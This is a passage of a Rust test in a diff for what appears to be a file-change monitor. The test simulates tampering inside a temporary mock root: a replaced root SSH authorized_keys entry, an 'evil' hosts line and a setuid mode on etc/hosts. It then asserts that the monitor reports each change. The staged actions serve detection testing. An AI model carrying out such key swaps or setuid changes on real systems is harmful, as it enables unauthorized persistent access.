+        let m = machine();
+        let root = m.path();
+        write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA old\n");
+        write(root, "root/deep/er/still/file", "x");
+        let mut t = Trees::open(root, &[("etc".into(), 8), ("root".into(), 2)]).unwrap();
+        write(root, "etc/hosts", "127.0.0.1 evil\n");
+        write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA new\n");
+        write(root, "root/deep/er/still/file", "y");
+        std::fs::set_permissions(
+            root.join("etc/hosts"),
+            std::os::unix::fs::PermissionsExt::from_mode(0o4755),
+        )
+        .unwrap();
+        let got = described(&t.drain(root));
+        let tmp = root.display().to_string();
+        let got: Vec<String> = got.iter().map(|g| g.replace(&tmp, "")).collect();
+        assert!(
+            got.contains(&"files created /etc/hosts".to_owned()),
+            "{got:#?}"
+        );
+        assert!(
+            got.contains(&"files modified /etc/hosts".to_owned()),
+            "{got:#?}"
+        );
+        assert!(
+            got.contains(&"files modified /root/.ssh/authorized_keys".to_owned()),
+            "{got:#?}"
+        );
+        assert!(
+            got.iter()
+                .any(|g| g.starts_with("files attributes /etc/hosts (mode 4755")),
+            "{got:#?}"
+        );
+        assert!(
+            !got.iter().any(|g| g.contains("/root/deep/er/still")),
+            "past the depth bound: {got:#?}"
+        );
+    }
+}
